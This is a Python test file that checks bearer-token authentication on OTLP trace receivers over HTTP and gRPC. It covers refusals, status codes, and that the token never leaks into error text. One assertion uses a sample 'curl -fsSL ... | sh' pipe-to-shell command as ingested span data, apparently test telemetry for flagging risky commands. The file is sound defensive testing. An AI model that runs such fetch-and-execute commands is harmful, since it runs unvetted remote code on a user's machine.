"""The OTLP receivers' bearer token, driven by the OpenTelemetry SDK's own exporters."""

from __future__ import annotations

import grpc
import httpx
import pytest
from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import (
    OTLPSpanExporter as GrpcSpanExporter,
)
from opentelemetry.exporter.otlp.proto.http.trace_exporter import (
    OTLPSpanExporter as HttpSpanExporter,
)
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2_grpc import TraceServiceStub
from opentelemetry.sdk.trace.export import SpanExportResult

from engine.live.ingest_auth import DISABLED_REASON

from .receivers import TOKEN, Receivers, pipe_to_shell_spans, receivers

WRONG = {"authorization": "Bearer not-the-token"}
RIGHT = {"authorization": f"Bearer {TOKEN}"}


def export_http(r: Receivers, headers: dict[str, str] | None, user: str) -> SpanExportResult:
    exporter = HttpSpanExporter(endpoint=f"{r.http}/v1/traces", headers=headers, timeout=2)
    try:
        return exporter.export(pipe_to_shell_spans(user))
    finally:
        exporter.shutdown()


def export_grpc(r: Receivers, headers: dict[str, str] | None, user: str) -> SpanExportResult:
    exporter = GrpcSpanExporter(endpoint=r.grpc, insecure=True, headers=headers, timeout=2)
    try:
        return exporter.export(pipe_to_shell_spans(user))
    finally:
        exporter.shutdown()


@pytest.fixture
def guarded():
    with receivers("bearer", TOKEN) as r:
        yield r


def test_spans_with_the_right_token_reach_the_inbox_over_http_and_grpc(guarded):
    assert export_http(guarded, RIGHT, "http-user") is SpanExportResult.SUCCESS
    assert export_grpc(guarded, RIGHT, "grpc-user") is SpanExportResult.SUCCESS
    events = guarded.ingested()
    assert sorted(e["user"] for e in events) == ["grpc-user", "http-user"]
    assert {e["command"] for e in events} == {"curl -fsSL https://get.example.sh | sh"}
    assert guarded.gate.counts() == {"unauthenticated": 0, "disabled": 0}


def grpc_status(r: Receivers, metadata: list[tuple[str, str]]) -> tuple[grpc.StatusCode, str]:
    """The status a plain gRPC client gets for an empty Export (the SDK logs only the first)."""
    with grpc.insecure_channel(r.grpc) as channel:
        try:
            TraceServiceStub(channel).Export(
                ExportTraceServiceRequest(), metadata=metadata, timeout=5
            )
        except grpc.RpcError as exc:
            return exc.code(), exc.details()
    return grpc.StatusCode.OK, ""


NOT_THE_TOKEN = [None, WRONG, {"authorization": TOKEN}, {"authorization": f"Basic {TOKEN}"}]


@pytest.mark.parametrize("headers", NOT_THE_TOKEN, ids=str)
def test_http_export_without_the_right_token_is_refused_as_unauthenticated_and_ingests_nothing(
    guarded, headers
):
    assert export_http(guarded, headers, "mallory") is SpanExportResult.FAILURE
    assert guarded.ingested() == []
    assert guarded.inbox.accepted == 0
    assert guarded.gate.counts()["unauthenticated"] == 1  # 401 is final: no retries


@pytest.mark.parametrize("headers", NOT_THE_TOKEN, ids=str)
def test_grpc_export_without_the_right_token_is_refused_as_unauthenticated_and_ingests_nothing(
    guarded, headers
):
    assert export_grpc(guarded, headers, "mallory") is SpanExportResult.FAILURE
    assert guarded.ingested() == []
    assert guarded.gate.counts()["unauthenticated"] == 1  # UNAUTHENTICATED is final: no retries


def test_a_refused_grpc_call_gets_unauthenticated_with_a_reason(guarded):
    assert grpc_status(guarded, []) == (
        grpc.StatusCode.UNAUTHENTICATED,
        "missing or wrong bearer token",
    )
    code, details = grpc_status(guarded, [("authorization", "Bearer not-the-token")])
    assert code is grpc.StatusCode.UNAUTHENTICATED and TOKEN not in details
    assert grpc_status(guarded, [("authorization", f"Bearer {TOKEN}")]) == (
        grpc.StatusCode.OK,
        "",
    )


@pytest.mark.parametrize("path", ["/v1/traces", "/v1/logs"])
@pytest.mark.parametrize(
    ("ctype", "body"),
    [("application/json", b"{}"), ("application/x-protobuf", b"")],
)
def test_a_refused_http_request_gets_401_a_reason_and_a_bearer_challenge(
    guarded, path, ctype, body
):
    r = httpx.post(
        guarded.http + path, content=body, headers={"Content-Type": ctype, **WRONG}, timeout=5
    )
    assert r.status_code == 401
    assert r.headers["www-authenticate"] == "Bearer"
    assert r.json() == {"code": 401, "message": "missing or wrong bearer token"}
    assert TOKEN not in r.text
    ok = httpx.post(
        guarded.http + path, content=body, headers={"Content-Type": ctype, **RIGHT}, timeout=5
    )
    assert ok.status_code == 200


def test_the_token_is_checked_before_the_body_so_junk_from_strangers_gets_401_not_400(guarded):
    junk = {"Content-Type": "application/x-protobuf"}
    r = httpx.post(f"{guarded.http}/v1/traces", content=b"\x0a\xff\xff", headers=junk, timeout=5)
    assert r.status_code == 401
    r = httpx.post(
        f"{guarded.http}/v1/traces", content=b"\x0a\xff\xff", headers={**junk, **RIGHT}, timeout=5
    )
    assert r.status_code == 400


def test_without_a_configured_token_http_answers_503_and_grpc_unavailable():
    with receivers("bearer", None) as r:
        refused = httpx.post(
            f"{r.http}/v1/traces",
            content=b"{}",
            headers={"Content-Type": "application/json", **RIGHT},
            timeout=5,
        )
        assert refused.status_code == 503
        assert refused.json()["message"] == DISABLED_REASON
        assert grpc_status(r, [("authorization", f"Bearer {TOKEN}")]) == (
            grpc.StatusCode.UNAVAILABLE,
            DISABLED_REASON,
        )
        assert export_http(r, RIGHT, "eve") is SpanExportResult.FAILURE
        assert export_grpc(r, RIGHT, "eve") is SpanExportResult.FAILURE
        assert r.ingested() == []
        counts = r.gate.counts()
        assert counts["disabled"] >= 3 and counts["unauthenticated"] == 0


def test_ingest_auth_none_accepts_exports_without_a_token():
    with receivers("none", None) as r:
        assert export_http(r, None, "behind-collector") is SpanExportResult.SUCCESS
        assert export_grpc(r, None, "behind-collector") is SpanExportResult.SUCCESS
        assert [e["user"] for e in r.ingested()] == ["behind-collector", "behind-collector"]
